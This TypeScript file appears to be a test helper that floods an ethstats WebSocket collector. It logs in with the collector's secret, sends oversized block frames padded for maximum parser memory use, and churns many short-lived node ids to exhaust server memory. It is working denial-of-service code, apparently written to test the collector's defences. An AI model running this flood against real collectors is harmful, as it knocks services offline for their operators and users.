import WebSocket from 'ws';
import { fakeBlock } from '../../helpers/ethstats-fakes.js';

export interface StateFloodOptions {
  /** The collector, `ws://host:port/api`. */
  readonly url: string;
  /** The collector's secret: this attacker holds it (a compromised node). */
  readonly secret: string;
  readonly id?: string;
  /** Blocks the logged-in reporter sends, numbered 1..blocks. */
  readonly blocks: number;
  /** Transaction hashes in each of those blocks. */
  readonly txPerBlock: number;
  /** Node ids that log in, report one block each and leave (one after another, `churnConcurrency` at a time). */
  readonly churnIds?: number;
  readonly churnTxPerBlock?: number;
  readonly churnConcurrency?: number;
  /**
   * Empty objects (`{},{},...`, 3 bytes each) added to each block frame beside the block: the
   * JSON that costs a parser the most memory per byte. Default 0.
   */
  readonly padObjects?: number;
  /** Stop sending blocks after this long (default: no limit). */
  readonly deadlineMs?: number;
  /** Churning ids are `<churnPrefix><n>` (default `churn-`): a new prefix per run makes new ids. */
  readonly churnPrefix?: string;
  /** The loopback address every connection leaves from (default: the system's choice, 127.0.0.1). */
  readonly localAddress?: string;
}

export interface StateFloodResult {
  /** The big reporter got `ready`. */
  readonly loggedIn: boolean;
  /** Block frames it handed to the socket before the collector closed it (if it did). */
  readonly blocksSent: number;
  /** Close code the collector ended the big reporter's session with (undefined: it did not). */
  readonly closeCode: number | undefined;
  /** Churning ids that got `ready` / were refused (closed before `ready`). */
  readonly churnLoggedIn: number;
  readonly churnRefused: number;
}

/**
 * A block frame with `txs` distinct transaction hashes (75 bytes each) and `padObjects` empty
 * objects beside the block, built as text (no object per hash in the attacker).
 */
export function bigBlockFrame(id: string, number: number, txs: number, padObjects = 0): string {
  const hashes = new Array<string>(txs);
  for (let i = 0; i < txs; i++) hashes[i] = `{"hash":"0x${number.toString(16).padStart(8, '0')}${i.toString(16).padStart(56, '0')}"}`;
  const frame = JSON.stringify({ emit: ['block', { id, block: { ...fakeBlock(number), transactions: '@TXS@' }, pad: '@PAD@' }] });
  return frame.replace('"@TXS@"', `[${hashes.join(',')}]`).replace('"@PAD@"', `[${new Array<string>(padObjects).fill('{}').join(',')}]`);
}

interface Session {
  readonly ws: WebSocket;
  readonly ready: boolean;
  readonly closed: Promise<number>;
}

/** Connects, sends hello with `secret`, resolves once `ready` came or the socket closed. */
async function login(url: string, id: string, secret: string, localAddress?: string): Promise<Session> {
  const ws = new WebSocket(url, { maxPayload: 1024 * 1024, ...(localAddress === undefined ? {} : { localAddress }) });
  ws.on('error', () => undefined);
  const closed = new Promise<number>((resolve) => ws.once('close', (code) => resolve(code)));
  const ready = await new Promise<boolean>((resolve) => {
    ws.once('open', () =>
      ws.send(JSON.stringify({ emit: ['hello', { id, info: { name: id, node: 'Geth/v1.13.15-stable', port: 30303, net: '1', protocol: 'eth/68', api: 'No', os: 'linux', os_v: 'x64', client: '0.1.1', canUpdateHistory: true }, secret }] })),
    );
    ws.on('message', (data) => {
      if (data.toString() === '{"emit":["ready"]}') resolve(true);
    });
    void closed.then(() => resolve(false));
  });
  return { ws, ready, closed };
}

/** Sends and resolves once the frame left (or failed to): the attacker's own memory stays flat. */
const sendAll = (ws: WebSocket, text: string): Promise<boolean> =>
  new Promise((resolve) => {
    if (ws.readyState !== WebSocket.OPEN) return resolve(false);
    ws.send(text, (err) => resolve(err === undefined || err === null));
  });

/**
 * The logged-in flood: one reporter holding the secret sends `blocks` blocks of `txPerBlock`
 * transaction hashes each (each frame under the 15 MiB frame limit), while `churnIds` other ids
 * log in, report a block and leave. A collector keeping every hash, or every record of a gone
 * node, grows by gigabytes.
 */
export async function stateFlood(options: StateFloodOptions): Promise<StateFloodResult> {
  const { url, secret, id = 'hostile-reporter', blocks, txPerBlock, churnIds = 0, churnTxPerBlock = 100, churnConcurrency = 8, churnPrefix = 'churn-', localAddress } = options;
  const deadline = Date.now() + (options.deadlineMs ?? Number.POSITIVE_INFINITY);
  const [big, churn] = await Promise.all([
    (async () => {
      const session = await login(url, id, secret, localAddress);
      let sent = 0;
      let closeCode: number | undefined;
      let quitting = false;
      void session.closed.then((code) => {
        if (!quitting) closeCode = code;
      });
      if (session.ready) {
        for (let n = 1; n <= blocks && Date.now() < deadline; n++) {
          if (!(await sendAll(session.ws, bigBlockFrame(id, n, txPerBlock, options.padObjects)))) break;
          sent += 1;
        }
      }
      // Give a close the collector started a moment to arrive before this side closes.
      await Promise.race([session.closed, new Promise((resolve) => setTimeout(resolve, 200))]);
      quitting = true;
      session.ws.close();
      await Promise.race([session.closed, new Promise((resolve) => setTimeout(resolve, 2000))]);
      session.ws.terminate();
      return { loggedIn: session.ready, blocksSent: sent, closeCode };
    })(),
    (async () => {
      let loggedIn = 0;
      let refused = 0;
      let next = 0;
      const worker = async (): Promise<void> => {
        while (next < churnIds) {
          const churnId = `${churnPrefix}${next++}`;
          const session = await login(url, churnId, secret, localAddress);
          if (session.ready) {
            loggedIn += 1;
            await sendAll(session.ws, bigBlockFrame(churnId, 1 + (next % 50), churnTxPerBlock));
          } else refused += 1;
          session.ws.close();
          await Promise.race([session.closed, new Promise((resolve) => setTimeout(resolve, 1000))]);
          session.ws.terminate();
        }
      };
      await Promise.all(Array.from({ length: Math.min(churnConcurrency, churnIds) }, worker));
      return { churnLoggedIn: loggedIn, churnRefused: refused };
    })(),
  ]);
  return { ...big, ...churn };
}
